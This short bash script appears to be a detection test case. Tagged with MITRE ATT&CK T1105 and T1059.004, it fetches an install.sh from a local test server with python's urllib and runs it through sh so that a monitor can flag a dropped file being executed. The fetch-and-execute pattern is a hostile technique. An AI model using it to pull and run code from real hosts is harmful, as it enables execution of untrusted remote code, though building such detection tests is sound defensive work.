#!/bin/bash
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: the download-then-run installer pattern (`curl -o install.sh && sh install.sh`) on slim Python images without curl: python's urllib writes the script to stdout, the shell redirects it into a file, then runs it
# expect: dropped-file-executed ^(da)?sh$
# exec-borne: yes
#
# The shell opens the file for python before python runs; python only
# writes its stdout. The script is then run through sh.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

stage=$(mktemp -d "${BW_ATTACK_TMP:?}/setup-XXXXXX")
trap 'rm -rf "$stage"' EXIT

python3 -c '
import sys, urllib.request
sys.stdout.write(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())
' "http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh" > "$stage/install.sh"
sh "$stage/install.sh"
